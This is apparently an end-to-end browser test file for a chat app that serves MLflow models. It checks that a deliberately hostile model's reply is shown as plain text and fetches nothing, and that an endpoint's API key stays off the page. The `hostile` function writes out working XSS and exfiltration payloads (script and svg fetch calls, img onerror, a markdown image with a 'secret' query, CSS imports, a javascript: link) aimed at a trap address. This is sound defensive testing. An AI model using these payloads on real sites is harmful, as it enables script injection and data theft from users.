"""Models that somebody else made, and those that are served elsewhere; after the journeys that expect none."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from phi3core.promotion import code_trust
from tests.e2e.conftest import App, until
from tests.e2e.pages import answer, messages, open_page, say, settled
from tests.support import children, third_party
from tests.support.fakes import FakeEngine
from tests.support.serving import serving

pytestmark = [pytest.mark.browser, pytest.mark.model]

_HOSTILE = """
import mlflow
from mlflow.types.llm import *

class Hostile(mlflow.pyfunc.ChatModel):
    def predict(self, context, messages, params):
        message = ChatMessage(role="assistant", content=TEXT)
        return ChatCompletionResponse(choices=[ChatChoice(message=message)])

    def predict_stream(self, context, messages, params):
        for letter in TEXT:
            yield ChatCompletionChunk(choices=[ChatChunkChoice(delta=ChatChoiceDelta(content=letter))])

mlflow.models.set_model(Hostile())
"""
OPENING = 120_000  # ms: as long as a model server of MLflow's own may take to open on a busy machine
KEY = "sk-not-for-the-page"


def hostile(address: str) -> str:
    """What a model may be talked into saying."""
    return "\n\n".join(
        [
            f'Look: <img src="{address}/img" onerror="document.title=\'taken\'">',
            f'<script>document.title="taken"; fetch("{address}/script")</script>',
            f'<iframe src="{address}/frame"></iframe> <svg onload="fetch(\'{address}/svg\')"></svg>',
            f"![plain]({address}/markdown?q=secret) and ![reference][ref]",
            f"[ref]: {address}/reference",
            f"![a [b] c]({address}/nested) ` ![tick]({address}/tick)",
            f"$$\\includegraphics{{{address}/formula}}$$",
            f'<style>@import "{address}/style";</style><link rel=stylesheet href="{address}/sheet">',
            f"```html\n<img src='{address}/fenced'>\n```",
            "[a link](javascript:document.title='taken') The end.",
        ]
    )


def talk_to(page: Page, app: App, name: str) -> None:
    """Open the chat with a model's first version; the app reads the registry every five seconds."""

    def there() -> bool:
        open_page(page, app, f"chat?ref={name}/1")
        return page.get_by_text(f"{name}/1", exact=True).count() > 0

    until(there)


def test_what_a_hostile_model_says_fetches_nothing_and_is_never_html(
    page: Page, app: App, tmp_path: Path, trap: tuple[str, list[str]]
) -> None:
    address, asked = trap
    code = f"TEXT = {hostile(address)!r}\n{_HOSTILE}"
    made = children.register(app.settings, third_party.save_code(tmp_path / "somebodys-hostile", code))
    code_trust.trust(app.settings, made.ref)
    talk_to(page, app, "somebodys-hostile")
    say(page, "Hello")
    expect(page.get_by_role("button", name="Regenerate")).to_be_visible(timeout=OPENING)
    expect(messages(page).last).to_contain_text("The end.")
    expect(messages(page).last).to_contain_text("<script>")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.get_by_role("button", name="Copy the answer").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == hostile(address)

    shown = messages(page).last
    expect(shown.locator("img, script, iframe, svg[onload], link, style, [onerror]")).to_have_count(0)
    expect(shown.locator('a[href^="javascript:"]')).to_have_count(0)
    expect(messages(page).last.get_by_role("link", name="image: plain")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert "taken" not in page.title()
    assert asked == []


def test_a_model_that_cant_be_chatted_with_is_asked_in_json(page: Page, app: App, tmp_path: Path) -> None:
    code_trust.trust(
        app.settings, children.register(app.settings, third_party.save(tmp_path / "somebodys-sum", "numbers")).ref
    )
    talk_to(page, app, "somebodys-sum")
    page.get_by_role("button", name="Open now").click()
    expect(page.get_by_text("can't be chatted with:")).to_be_visible(timeout=OPENING)
    settled(page)
    expect(page.get_by_test_id("stChatInput")).to_have_count(0)
    expect(page.get_by_test_id("stExpander").filter(has_text="Signature")).to_contain_text('"double"')
    box = page.get_by_label("Inputs, as JSON")
    body = json.loads(box.input_value())
    assert body == {"dataframe_records": [{"a": 1.0, "b": 1.0}]}

    body["dataframe_records"][0]["a"] = 41.5
    box.fill(json.dumps(body))
    box.press("Control+Enter")
    settled(page)
    page.get_by_role("button", name="Predict").click()
    expect(page.get_by_text("Predictions", exact=True)).to_be_visible()
    expect(page.get_by_test_id("stCode").last).to_contain_text("42.5")
    box.fill("{")
    box.press("Control+Enter")
    settled(page)
    page.get_by_role("button", name="Predict").click()
    expect(page.get_by_test_id("stAlert").filter(has_text="no JSON")).to_be_visible()


def test_an_endpoint_of_the_secrets_file_answers_and_its_key_never_reaches_the_page(page: Page, app: App) -> None:
    with serving(lambda: FakeEngine(), names=("their-model",), key=KEY) as url:
        app.secrets.write_text(
            f'[endpoints."their place"]\nkind = "openai"\nurl = "{url}/v1"\nmodel = "their-model"\nkey = "{KEY}"\n'
        )
        try:
            open_page(page, app, "chat?ref=endpoint:their place")
            expect(page.get_by_label("Address")).to_have_value(f"{url}/v1")
            say(page, "The capital of Spain?")
            expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
            expect(answer(page)).to_have_text("Madrid is it.")
            expect(messages(page).last).to_contain_text(re.compile("endpoint:their place"))
            page.reload()
            expect(answer(page)).to_have_text("Madrid is it.")
            assert KEY not in page.content()
        finally:
            app.secrets.unlink()
